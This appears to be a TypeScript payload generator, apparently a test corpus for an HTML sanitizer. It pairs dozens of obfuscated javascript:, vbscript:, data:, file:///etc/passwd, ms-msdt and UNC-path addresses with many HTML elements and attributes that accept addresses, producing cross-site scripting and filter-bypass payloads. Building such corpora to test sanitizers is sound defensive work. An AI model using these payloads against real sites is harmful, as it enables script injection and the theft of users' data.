import { cross, family, type Weapons } from '../payload.ts';

/** Addresses that run script, as browsers understand them. */
const spellings: readonly ((weapons: Weapons) => string)[] = [
  ({ code }) => `javascript:${code}`,
  ({ code }) => `JaVaScRiPt:${code}`,
  ({ code }) => ` javascript:${code}`,
  ({ code }) => `\tjavascript:${code}`,
  ({ code }) => `java\tscript:${code}`,
  ({ code }) => `java\nscript:${code}`,
  ({ code }) => `java&#10;script:${code}`,
  ({ code }) => `java&Tab;script&colon;${code}`,
  ({ code }) => `&#106;&#x61;vascript:${code}`,
  ({ code }) => `&#0000106&#0000097&#0000118ascript:${code}`,
  ({ code }) => `&#1;javascript:${code}`,
  ({ code }) => `\u0001\u001fjavascript:${code}`,
  ({ code }) => `javascript&#58;${code}`,
  ({ code }) => `javascript://%0a${code}`,
  ({ code }) => `javascript://https://news.example/%0a${code}`,
  ({ code }) => `\u00a0javascript:${code}`,
  ({ code }) => `\u200bjavascript:${code}`,
  ({ code }) => `javascript\u200b:${code}`,
  ({ code }) => `view-source:javascript:${code}`,
  ({ code }) => `vbscript:${code}`,
  ({ code }) => `livescript:${code}`,
  ({ code }) => `data:text/html,<script>${code}</script>`,
  ({ code }) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  ({ code }) => `DATA:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${code}</script>`,
  ({ code }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=${code.replaceAll("'", '%27')}>`,
  ({ code }) => `data:,${code}`,
  ({ code }) => `blob:https://news.example/${code}`,
  ({ code }) => `filesystem:https://news.example/${code}`,
  () => 'file:///etc/passwd',
  () => 'chrome://settings',
  () => 'about:srcdoc',
  () => 'intent://scan/#Intent;scheme=zxing;end',
  () => 'ms-msdt:/id PCWDiagnostic',
  () => 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/popup/popup.html',
  ({ url }) => `\\\\${url.replace('http://', '')}`,
  ({ url }) => `https:${url.replace('http:', '')}"><b x="`,
];

const links = family(
  'link',
  spellings.map(
    (spell) => (weapons: Weapons) =>
      `<p>A paragraph with <a href="${spell(weapons)}">a link of several words</a> in it.</p>`,
  ),
);
const pictures = family(
  'picture',
  spellings.map(
    (spell) => (weapons: Weapons) =>
      `<figure><img src="${spell(weapons)}" width="640" height="360" alt="A picture"><figcaption>A picture.</figcaption></figure>`,
  ),
);

/** Everything that takes an address, or asks for it. `ADDRESS` stands for it. */
const bearers: readonly string[] = [
  '<map name="m"><area shape="default" href="ADDRESS"></map><img usemap="#m" src="x:" alt="x">',
  '<form action="ADDRESS"><input type="submit" value="Go"></form>',
  '<form><button formaction="ADDRESS">Go</button></form>',
  '<form><input type="image" src="ADDRESS" formaction="ADDRESS"></form>',
  '<iframe src="ADDRESS"></iframe>',
  '<embed src="ADDRESS">',
  '<object data="ADDRESS"><param name="url" value="ADDRESS"></object>',
  '<applet code="ADDRESS" archive="ADDRESS"></applet>',
  '<img srcset="ADDRESS 1x, ADDRESS 2x" alt="x">',
  '<img data-src="ADDRESS" data-srcset="ADDRESS 2x" alt="x">',
  '<img longdesc="ADDRESS" lowsrc="ADDRESS" dynsrc="ADDRESS" alt="x">',
  '<noscript><img src="ADDRESS" alt="x"></noscript>',
  '<picture><source srcset="ADDRESS"><img src="ADDRESS" alt="x"></picture>',
  '<video src="ADDRESS" poster="ADDRESS"><track src="ADDRESS" default></video>',
  '<audio src="ADDRESS" autoplay></audio>',
  '<blockquote cite="ADDRESS"><p>Words that somebody said.</p></blockquote>',
  '<p><q cite="ADDRESS">Words</q> and <del cite="ADDRESS">other words</del>.</p>',
  '<p>Words with <a href="#x" ping="ADDRESS">a link that tells</a> in it.</p>',
  '<p>Words with <a href="https://news.example/" attributionsrc="ADDRESS">a link that tells</a> in it.</p>',
  '<table background="ADDRESS"><tr><td background="ADDRESS">A cell</td></tr></table>',
  '<p style="background:url(ADDRESS)">A paragraph with a background.</p>',
  '<p style="list-style:url(ADDRESS);content:url(ADDRESS);cursor:url(ADDRESS),auto">A paragraph.</p>',
  '<style>@import "ADDRESS"; p { background: url("ADDRESS") } @font-face { font-family: x; src: url("ADDRESS") }</style>',
  '<link rel="stylesheet" href="ADDRESS">',
  '<link rel="prefetch" href="ADDRESS"><link rel="preload" as="image" href="ADDRESS" imagesrcset="ADDRESS">',
  '<link rel="dns-prefetch preconnect modulepreload manifest icon import" href="ADDRESS">',
  '<p><a href="https://news.example/" target="ADDRESS" download="ADDRESS" rel="opener">A link to elsewhere</a> in it.</p>',
  '<portal src="ADDRESS"></portal><fencedframe src="ADDRESS"></fencedframe>',
];
const targets: readonly ((weapons: Weapons) => string)[] = [({ code }) => `javascript:${code}`, ({ url }) => url];

const carried = family(
  'address',
  cross(bearers, targets, (bearer, target) => (weapons: Weapons) => bearer.replaceAll('ADDRESS', target(weapons))),
);

export const addresses = [...links, ...pictures, ...carried];
